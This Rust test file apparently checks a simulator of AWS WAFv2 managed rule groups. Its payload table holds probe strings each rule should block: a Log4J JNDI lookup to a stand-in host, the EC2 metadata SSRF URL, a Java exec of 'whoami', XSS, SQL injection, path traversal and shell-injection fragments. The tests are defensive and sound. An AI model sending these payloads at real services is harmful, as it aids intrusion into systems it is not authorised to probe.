//! Every simulated rule of every group, run: one request that it stops alone, and ordinary requests that none does.

use super::{group, read};
use crate::request::Request;
use crate::wafv2::ast::{GroupReference, Rule, RuleAction, RuleGroup, Statement, Tier, Visibility};
use crate::wafv2::{At, Judgement, Outcome, ResourceType, WebAcl};
use model::{HttpRequest, Node, Place};
use std::collections::BTreeSet;
use std::sync::Arc;

/// A web ACL that allows by default and runs one group.
fn acl(group: Arc<RuleGroup>) -> WebAcl {
    let text = serde_json::json!({"Name": "t", "DefaultAction": {"Allow": {}}, "Rules": [],
        "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "t"}});
    let place = Place::new("t.json", 1, 1);
    let mut acl = WebAcl::from_aws_json(&Node::from_json(&text, &place), &crate::wafv2::Library::default()).unwrap();
    let reference = GroupReference {
        id: group.arn.clone(),
        managed: true,
        group: Some(group),
        overrides: Default::default(),
        excluded: Default::default(),
        scope_down: None,
    };
    acl.rules.push(Rule {
        name: "group".into(),
        priority: 0,
        statement: Statement::Group(Box::new(reference)),
        action: RuleAction::Group { count: false },
        labels: Vec::new(),
        captcha_immunity: None,
        challenge_immunity: None,
        visibility: Visibility::default(),
        tier: None,
        place,
    });
    acl
}

fn judge(acl: &WebAcl, request: &HttpRequest) -> Judgement {
    acl.judge(&Request::of(request), ResourceType::ApiGateway, &At(0))
}

/// The payload in the component that the rule's name ends with.
fn request(rule: &str, payload: &str) -> HttpRequest {
    let mut request = HttpRequest {
        method: "GET".into(),
        path: "/".into(),
        headers: vec![("host".into(), "api.example.com".into()), ("user-agent".into(), "Mozilla/5.0".into())],
        ..HttpRequest::default()
    };
    match rule {
        "NoUserAgent_HEADER" => request.headers.truncate(1),
        "UserAgent_BadBots_HEADER" => request.headers[1].1 = payload.into(),
        "Host_localhost_HEADER" => request.headers[0].1 = payload.into(),
        "PROPFIND_METHOD" => request.method = payload.into(),
        _ => match rule.rsplit('_').next().unwrap() {
            "HEADER" => request.headers.push(("x-note".into(), payload.into())),
            "COOKIE" => request.headers.push(("cookie".into(), format!("a=b; note={payload}"))),
            "QUERYARGUMENTS" | "QUERYSTRING" => request.query = format!("a=b&q={payload}"),
            "URIPATH" => request.path = format!("/{payload}"),
            "BODY" => {
                request.method = "POST".into();
                request.body = payload.into();
            }
            other => panic!("{rule} has no component {other}"),
        },
    }
    request
}

/// What each rule is to stop, by the beginning of its name.
fn payload(rule: &str) -> String {
    let table = [
        ("NoUserAgent", ""),
        ("UserAgent_BadBots", "sqlmap/1.7"),
        ("EC2MetaDataSSRF", "http://169.254.169.254/latest/meta-data/"),
        ("GenericLFI", "..%2f..%2fx"),
        ("RestrictedExtensions", "app.log"),
        ("GenericRFI", "http://203.0.113.1/x.txt"),
        ("CrossSiteScripting", "<script>alert(1)</script>"),
        ("AdminProtection", "sqlmanager"),
        ("JavaDeserializationRCE", "(java.lang.Runtime).getRuntime().exec(\"whoami\")"),
        ("Host_localhost", "localhost"),
        ("PROPFIND", "PROPFIND"),
        ("ExploitablePaths", "web-inf"),
        ("Log4JRCE", "${jndi:ldap://a.example/b}"),
        ("ReactJSRCE", "{\"then\":\"$1:__proto__:then\"}"),
        ("SQLi_URIPATH", "x'%20OR%201=1--%20"),
        ("SQLi_", "x'%20OR%20'1'='1"),
        ("SQLiExtendedPatterns", "waitfor%20delay"),
        ("LFI_", "/proc/version"),
        ("UNIXShell", "echo%20$HOME"),
        ("WindowsShell", "||nslookup%20x"),
        ("PowerShell", "Invoke-Expression%20x"),
        ("PHPHighRisk", "fsockopen('x',80)"),
        ("WordPressExploitableCommands", "do-reset-wordpress"),
        ("WordPressExploitablePaths", "xmlrpc.php"),
    ];
    if let Some(rest) = rule.strip_prefix("SizeRestrictions_") {
        let over = match rest {
            "QUERYSTRING" => 2049,
            "URIPATH" => 1025,
            _ => 8193,
        };
        return "a".repeat(over);
    }
    table.iter().find(|(name, _)| rule.starts_with(name)).unwrap_or_else(|| panic!("no payload for {rule}")).1.to_owned()
}

#[test]
fn every_rule_stops_what_it_is_for() {
    let mut run = 0;
    for spec in read::groups() {
        for entry in super::entries(spec.name).into_iter().filter(|entry| entry.tier != 'X') {
            // "This rule only inspects the first 8 KB of the request cookies ... Continue": more than 10,240 bytes are never seen.
            if entry.rule == "SizeRestrictions_Cookie_HEADER" {
                continue;
            }
            // The rule alone: an earlier one may stop the same request.
            let mut alone = RuleGroup::clone(&group(spec.name, None).unwrap());
            alone.rules.retain(|rule| rule.name == entry.rule);
            let judgement = judge(&acl(Arc::new(alone)), &request(entry.rule, &payload(entry.rule)));
            assert_eq!(judgement.outcome, Outcome::Block, "{}", entry.rule);
            let matched = &judgement.terminating.as_ref().unwrap().matched;
            assert_eq!((matched.rule.as_str(), matched.tier.map(Tier::letter)), (entry.rule, Some(entry.tier)));
            assert_eq!(judgement.labels.len(), 1);
            assert!(judgement.labels[0].ends_with(&format!(":{}", entry.label)), "{:?}", judgement.labels);
            run += 1;
        }
    }
    assert_eq!(run, 57);
}

/// Approximations read JSON's escapes; the built-in statements do what is documented of them.
#[test]
fn escaped_json() {
    let common = acl(group("AWSManagedRulesCommonRuleSet", None).unwrap());
    let judgement = judge(&common, &request("GenericLFI_BODY", r#"{"a":"\u002e\u002e\u002f\u002e\u002e\u002fx"}"#));
    assert_eq!(judgement.path(), ["group", "GenericLFI_BODY"]);
}

#[test]
fn thresholds_are_exact() {
    let common = acl(group("AWSManagedRulesCommonRuleSet", None).unwrap());
    for (rule, length) in [("SizeRestrictions_QUERYSTRING", 2048), ("SizeRestrictions_BODY", 8192), ("SizeRestrictions_URIPATH", 1024)] {
        for (over, expected) in [(0, Outcome::Allow), (1, Outcome::Block)] {
            let mut sent = request(rule, "");
            let text = "a".repeat(length + over);
            match rule {
                "SizeRestrictions_QUERYSTRING" => sent.query = text,
                "SizeRestrictions_BODY" => sent.body = text.into(),
                _ => sent.path = format!("/{}", &text[1..]),
            }
            assert_eq!(judge(&common, &sent).outcome, expected, "{rule} {over}");
        }
    }
}

/// The documented limit of inspection is below the rule's threshold, so the rule cannot be met.
#[test]
fn cookies_over_the_threshold_are_not_seen() {
    let common = acl(group("AWSManagedRulesCommonRuleSet", None).unwrap());
    let sent = request("CrossSiteScripting_COOKIE", &"a".repeat(12_000));
    let judgement = judge(&common, &sent);
    assert_eq!(judgement.outcome, Outcome::Allow);
    assert!(!judgement.oversize.is_empty());
}

#[test]
fn ordinary_requests_pass_every_group() {
    let json = "{\"name\":\"Sparkle O'Hara\",\"cape\":4,\"note\":\"select a horn from the list; it's fine & good\"}";
    for spec in read::groups() {
        let acl = acl(group(spec.name, None).unwrap());
        for (path, query, cookie, body) in [
            ("/unicorns/42", "color=white&sort=-age&page=2", "session=8f14e45f; theme=dark", json),
            ("/customize/horns", "q=rainbow%20mane&lang=en-GB", "id=1", "name=Twilight+Sparkle&size=10"),
            ("/a/b.html", "from=2024-01-01T00:00:00Z&to=2024-02-01", "_ga=GA1.2.3.4", ""),
        ] {
            let mut sent = request("GET_HEADER", "see https://example.com/docs");
            (sent.path, sent.query, sent.body) = (path.into(), query.into(), body.into());
            sent.headers.push(("cookie".into(), cookie.into()));
            let judgement = judge(&acl, &sent);
            assert_eq!(judgement.outcome, Outcome::Allow, "{} {path}: {:?}", spec.name, judgement.path());
        }
    }
}

/// A group or rule that is not simulated never passes in silence.
#[test]
fn what_is_not_simulated_says_so() {
    for spec in read::groups() {
        let judgement = judge(&acl(group(spec.name, None).unwrap()), &request("GET_HEADER", "x"));
        let hidden: BTreeSet<_> = super::entries(spec.name).iter().map(|entry| entry.tier == 'X').collect();
        let expected = hidden.is_empty() || hidden.contains(&true);
        assert_eq!(!judgement.unassessed.is_empty(), expected, "{}: {:?}", spec.name, judgement.unassessed);
    }
}
